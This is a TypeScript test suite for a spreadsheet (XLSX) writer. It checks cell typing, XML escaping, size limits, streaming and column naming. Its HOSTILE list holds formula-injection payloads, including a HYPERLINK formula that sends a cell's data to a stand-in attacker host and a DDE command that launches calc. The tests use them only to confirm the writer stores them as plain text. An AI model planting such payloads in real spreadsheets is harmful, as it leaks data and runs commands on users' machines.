import fc from 'fast-check';
import { parseXml, readXlsx, sheetRecords } from '../../../../test/support/xlsx-read';
import { columnName, rowXml, xlsxBuffer, xmlEscape, XLSX_MAX_CELL_TEXT, XlsxCell } from './xlsx-writer';

const HOSTILE = [
  '=HYPERLINK("http://atacante.example/?x="&A1,"ver")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-1+1',
  '\tTab',
];

describe('xlsx writer', () => {
  it('writes the minimal SpreadsheetML parts, each well-formed XML, one sheet per dataset in order', async () => {
    const wb = readXlsx(
      await xlsxBuffer([
        { name: 'answers', columns: ['a', 'b'], rows: [[1, 'x']] },
        { name: 'codebook', columns: ['variable'], rows: [] },
      ]),
    );
    expect(wb.parts).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ]);
    expect([...wb.sheets.keys()]).toEqual(['answers', 'codebook']);
    expect(wb.sheets.get('codebook')).toEqual([[{ type: 'string', value: 'variable' }]]);
  });

  it('numbers are numeric cells, text stays text (also when it looks like a number or a formula), booleans are booleans, null is empty', async () => {
    const rows: XlsxCell[][] = [[3, '3', true, null, 0.4375, -2, ...HOSTILE]];
    const wb = readXlsx(
      await xlsxBuffer([
        { name: 'data', columns: ['n', 's', 'b', 'empty', 'x', 'neg', ...HOSTILE.map((_, i) => `h${i}`)], rows },
      ]),
    );
    const [, row] = wb.sheets.get('data') ?? [];
    expect(row.slice(0, 6)).toEqual([
      { type: 'number', value: 3 },
      { type: 'string', value: '3' },
      { type: 'boolean', value: true },
      null,
      { type: 'number', value: 0.4375 },
      { type: 'number', value: -2 },
    ]);
    // Inline strings are never evaluated: the formula-looking text is kept exactly, with no apostrophe and no <f>.
    expect(row.slice(6)).toEqual(HOSTILE.map((value) => ({ type: 'string', value })));
  });

  it('escapes XML and drops characters XML cannot carry', async () => {
    const nasty = 'a & b < c > d " e \' </t></is></c><c><f>1+1</f></c> \u0000\u0001\u000b\uffff \ud800 ✓ Ñandú 😀 \r\n';
    const wb = readXlsx(await xlsxBuffer([{ name: 'x&y', columns: ['<h>'], rows: [[nasty]] }]));
    expect([...wb.sheets.keys()]).toEqual(['x&y']);
    expect(sheetRecords(wb, 'x&y')).toEqual([
      { '<h>': 'a & b < c > d " e \' </t></is></c><c><f>1+1</f></c>   ✓ Ñandú 😀 \r\n' },
    ]);
  });

  it('non-finite numbers are empty cells; overlong text is cut at the spreadsheet limit', async () => {
    const wb = readXlsx(
      await xlsxBuffer([
        {
          name: 's',
          columns: ['a', 'b', 'c'],
          rows: [[Number.NaN, Number.POSITIVE_INFINITY, 'x'.repeat(XLSX_MAX_CELL_TEXT + 10)]],
        },
      ]),
    );
    const [, row] = wb.sheets.get('s') ?? [];
    expect(row[0]).toBeNull();
    expect(row[1]).toBeNull();
    expect(row[2]).toEqual({ type: 'string', value: 'x'.repeat(XLSX_MAX_CELL_TEXT) });
  });

  it('streams many rows from an async source, and refuses bad sheet names', async () => {
    async function* many(): AsyncGenerator<XlsxCell[]> {
      for (let i = 0; i < 5000; i++) yield [i, `fila ${i}`];
    }
    const wb = readXlsx(await xlsxBuffer([{ name: 'big', columns: ['i', 't'], rows: many() }]));
    const rows = sheetRecords(wb, 'big');
    expect(rows).toHaveLength(5000);
    expect(rows[4999]).toEqual({ i: 4999, t: 'fila 4999' });
    await expect(xlsxBuffer([{ name: 'a/b', columns: [], rows: [] }])).rejects.toThrow('invalid sheet name');
    await expect(xlsxBuffer([{ name: 'x'.repeat(32), columns: [], rows: [] }])).rejects.toThrow('invalid sheet name');
    await expect(
      xlsxBuffer([
        { name: 'A', columns: [], rows: [] },
        { name: 'a', columns: [], rows: [] },
      ]),
    ).rejects.toThrow('duplicate');
  });

  it('column names: A, Z, AA, AZ, BA, XFD', () => {
    expect([0, 25, 26, 51, 52, 16383].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'XFD']);
  });

  it('property: any row of strings, numbers, booleans and nulls is well-formed XML and reads back as written', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(cell, { maxLength: 30 }), (cells) => {
        const xml = `<sheetData xmlns:x="y">${rowXml(
          2,
          cells,
          cells.map((_, i) => columnName(i)),
        )}</sheetData>`;
        const row = parseXml(xml).children[0];
        let k = 0;
        cells.forEach((v) => {
          if (v === null) return;
          const c = row.children[k++];
          if (typeof v === 'number') expect(Number(c.children[0].text)).toBe(Object.is(v, -0) ? 0 : v);
          else if (typeof v === 'boolean') expect(c.children[0].text).toBe(v ? '1' : '0');
          else {
            expect(c.attrs.t).toBe('inlineStr');
            expect(c.children[0].children[0].text).toBe(xmlEscapeInverse(v));
          }
        });
        expect(row.children).toHaveLength(k);
      }),
      { numRuns: 300 },
    );
  });
});

/** What a string reads back as: the characters XML cannot carry are gone, everything else is kept. */
function xmlEscapeInverse(v: string): string {
  return xmlEscape(v).replace(
    /&(amp|lt|gt|quot|#13);/g,
    (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#13': '\r' })[e] as string,
  );
}
